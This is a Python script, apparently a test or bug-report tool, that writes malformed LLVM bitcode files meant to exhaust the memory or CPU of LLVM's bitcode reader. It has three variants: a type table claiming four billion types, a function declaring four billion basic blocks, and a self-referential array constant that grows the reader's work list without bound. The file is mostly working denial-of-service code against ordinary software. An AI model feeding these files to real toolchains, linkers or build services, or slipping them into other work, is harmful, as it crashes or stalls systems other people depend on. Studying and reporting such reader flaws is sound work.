#!/usr/bin/env python3
"""bitcode-bomb.py KIND OUT: writes LLVM bitcode that claims an absurd
amount, written bit by bit in the bitstream format (LLVM's
docs/BitCodeFormat.rst), so that nothing tidies it up:

  types    a module whose type table says it holds 4,000,000,000 types
           (TYPE_CODE_NUMENTRY): LLVM's reader makes room for all of them
           (32 GB) before it reads one;
  blocks   a function whose body says it has 4,000,000,000 basic blocks
           (FUNC_CODE_DECLAREBLOCKS): room for them is made when the body
           is read, which a lazy reader does only when the link needs it;
  selfref  a global variable whose initializer is an array constant whose
           element is that constant itself: LLVM 22's reader puts the
           constant on its work list again and again, until the list
           cannot grow (tens of seconds and gigabytes)."""
import sys


class Bits:
    def __init__(self):
        self.bits = []
        self.width = 2  # the abbreviation width outside any block

    def emit(self, v, n):
        self.bits += [(v >> i) & 1 for i in range(n)]

    def vbr(self, v, n):
        top = 1 << (n - 1)
        while v >= top:
            self.emit((v & (top - 1)) | top, n)
            v >>= n - 1
        self.emit(v, n)

    def align(self):
        self.bits += [0] * (-len(self.bits) % 32)

    def enter(self, block, width):
        self.emit(1, self.width)  # ENTER_SUBBLOCK
        self.vbr(block, 8)
        self.vbr(width, 4)
        self.align()
        at = len(self.bits)
        self.emit(0, 32)  # its length in words, once known
        outer, self.width = self.width, width
        return at, outer

    def end(self, opened):
        at, outer = opened
        self.emit(0, self.width)  # END_BLOCK
        self.align()
        words = (len(self.bits) - at - 32) // 32
        self.bits[at:at + 32] = [(words >> i) & 1 for i in range(32)]
        self.width = outer

    def record(self, code, ops):
        self.emit(3, self.width)  # UNABBREV_RECORD
        self.vbr(code, 6)
        self.vbr(len(ops), 6)
        for op in ops:
            self.vbr(op, 6)

    def data(self):
        self.align()
        return bytes(sum(b << k for k, b in enumerate(self.bits[i:i + 8]))
                     for i in range(0, len(self.bits), 8))


MODULE_BLOCK, CONSTANTS_BLOCK, FUNCTION_BLOCK, TYPE_BLOCK = 8, 11, 12, 17
VERSION, GLOBALVAR, FUNCTION = 1, 7, 8              # module records
NUMENTRY, VOID, INTEGER, ARRAY, FUNCTYPE = 1, 2, 7, 11, 21  # type records
SETTYPE, AGGREGATE = 1, 7                           # constant records
DECLAREBLOCKS = 1                                   # function records

kind, out = sys.argv[1], sys.argv[2]
b = Bits()
for c in b"BC":
    b.emit(c, 8)
for c in (0x0, 0xC, 0xE, 0xD):
    b.emit(c, 4)
module = b.enter(MODULE_BLOCK, 3)
if kind == "types":
    b.record(VERSION, [2])
    types = b.enter(TYPE_BLOCK, 4)
    b.record(NUMENTRY, [4000000000])
    b.end(types)
elif kind == "blocks":
    b.record(VERSION, [1])
    types = b.enter(TYPE_BLOCK, 4)
    b.record(NUMENTRY, [2])
    b.record(VOID, [])          # type 0: void
    b.record(FUNCTYPE, [0, 0])  # type 1: void ()
    b.end(types)
    # value 0: a function of type 1 with a body (not a prototype)
    b.record(FUNCTION, [1, 0, 0, 0, 0, 0, 0, 0, 0])
    body = b.enter(FUNCTION_BLOCK, 4)
    b.record(DECLAREBLOCKS, [4000000000])
    b.end(body)
elif kind == "selfref":
    b.record(VERSION, [1])
    types = b.enter(TYPE_BLOCK, 4)
    b.record(NUMENTRY, [2])
    b.record(INTEGER, [32])     # type 0: i32
    b.record(ARRAY, [1, 0])     # type 1: [1 x i32]
    b.end(types)
    # value 0: a global of type 1 (explicit type), initialized by value 1
    b.record(GLOBALVAR, [1, 2, 2, 0, 0, 0])
    consts = b.enter(CONSTANTS_BLOCK, 4)
    b.record(SETTYPE, [1])
    b.record(AGGREGATE, [1])    # value 1: [value 1]
    b.end(consts)
else:
    sys.exit("bitcode-bomb.py: unknown kind '%s'" % kind)
b.end(module)
open(out, "wb").write(b.data())
